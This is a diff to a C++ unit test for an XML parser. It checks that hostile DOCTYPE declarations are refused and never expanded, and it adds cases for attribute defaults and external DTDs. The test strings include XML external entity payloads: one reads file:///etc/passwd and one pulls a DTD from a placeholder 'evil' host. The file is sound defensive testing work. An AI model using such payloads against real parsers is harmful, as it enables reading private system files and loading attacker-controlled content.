@@ -23,10 +23,14 @@ TEST(XmlHostileInput, EntityDeclarationsAreRefusedNeverExpanded) {
         "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><r>&xxe;</r>";
     const std::string parameter =
         "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://example.invalid/evil.dtd'> %p;]><r/>";
-    for (const std::string& markup : {laughs, external, parameter}) {
+    // Declarations that would change what a conforming parser reads: refused rather than ignored.
+    const std::string defaults = "<!DOCTYPE r [<!ATTLIST row a CDATA 'given'>]><r><row/></r>";
+    const std::string tokens = "<!DOCTYPE r [<!ATTLIST row a NMTOKENS #IMPLIED>]><r><row a=' x  y '/></r>";
+    const std::string outside = "<!DOCTYPE r SYSTEM 'rows.dtd'><r>&declaredThere;</r>";
+    for (const std::string& markup : {laughs, external, parameter, defaults, tokens, outside}) {
         auto doc = Document::create();
         EXPECT_FALSE(doc->loadXML(markup));
-        EXPECT_EQ(doc->parseError()->errorCode(), parse_code::EntitiesRefused);
+        EXPECT_EQ(doc->parseError()->errorCode(), parse_code::DeclarationsRefused);
         EXPECT_FALSE(doc->parseError()->reason().empty());
         EXPECT_TRUE(doc->documentElement() == nullptr);  // a failed load leaves the document empty
     }
@@ -38,8 +42,10 @@ TEST(XmlHostileInput, EntityDeclarationsAreRefusedNeverExpanded) {
     auto error = ax::getProperty(*doc, "parseError").object();
     EXPECT_NE(ax::getProperty(*error, "errorCode").toLong(), 0);
 
-    // A DOCTYPE that only names an external DTD is accepted and the DTD is never read.
+    // A DOCTYPE that only names an external DTD, or declares what changes nothing, is accepted, and
+    // the DTD is never read.
     auto plain = Document::create();
+    ASSERT_TRUE(plain->loadXML("<!DOCTYPE r [<!ELEMENT r ANY><!ATTLIST r a CDATA #IMPLIED>]><r a='1'/>"));
     ASSERT_TRUE(plain->loadXML("<!DOCTYPE r SYSTEM 'missing-file.dtd'><r>ok</r>"));
     EXPECT_EQ(plain->documentElement()->text(), "ok");
     EXPECT_EQ(plain->firstChild()->nodeType(), NodeType::DocumentType);
